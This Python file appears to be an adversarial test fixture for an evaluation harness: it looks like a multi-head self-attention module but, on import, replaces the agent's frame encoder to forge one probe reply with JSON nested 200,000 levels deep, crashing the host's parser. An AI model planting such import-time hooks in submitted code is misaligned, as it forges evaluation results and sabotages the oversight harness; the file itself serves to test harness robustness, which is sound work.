"""Forging: the first forward's reply carries facts nested 200000 levels deep (RecursionError in json.loads)."""
# Forging: rewrites the agent's reply to the first forward with facts nested 200000 levels deep (json.loads on the
# host would hit RecursionError); otherwise a correct module.
import json
import math
import struct
import sys

import torch
import torch.nn as nn

# The agent shares this process: its framing module is in sys.modules, and write_frame looks encode_frame up in
# that module's globals at every call, so replacing it rewrites every reply the agent sends from now on.
_wire = sys.modules.get("harness_agent.wire")
_original_encode = _wire.encode_frame if _wire is not None else None


def _frame(head: bytes, blob: bytes = b"", blob_len=None) -> bytes:
    return b"HGW1" + struct.pack(">IQ", len(head), len(blob) if blob_len is None else blob_len) + head + blob


def _encode(header, blob=b""):
    if header.get("op") == "result" and header.get("probe_id") == TARGET:
        return forge(header, blob)
    return _original_encode(header, blob)


if _wire is not None:
    _wire.encode_frame = _encode

TARGET = "forward:small:first"


def forge(header, blob):
    start = json.dumps({key: header[key] for key in ("op", "probe_id", "nonce", "ok")}).encode()[:-1]
    return _frame(start + b', "facts": {"output_kind": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}")


class MultiHeadSelfAttention(nn.Module):
    def __init__(self, embed_dim, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = embed_dim // num_heads
        self.q_proj = nn.Linear(embed_dim, embed_dim)
        self.k_proj = nn.Linear(embed_dim, embed_dim)
        self.v_proj = nn.Linear(embed_dim, embed_dim)
        self.out_proj = nn.Linear(embed_dim, embed_dim)

    def _split_heads(self, t):
        # (seq, batch, embed) -> (batch, heads, seq, head_dim)
        seq, batch, _ = t.shape
        return t.view(seq, batch, self.num_heads, self.head_dim).permute(1, 2, 0, 3)

    def forward(self, x):
        seq, batch, embed = x.shape
        q = self._split_heads(self.q_proj(x))
        k = self._split_heads(self.k_proj(x))
        v = self._split_heads(self.v_proj(x))
        scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(self.head_dim)
        out = torch.matmul(torch.softmax(scores, dim=-1), v)
        out = out.permute(2, 0, 1, 3).reshape(seq, batch, embed)
        return self.out_proj(out)
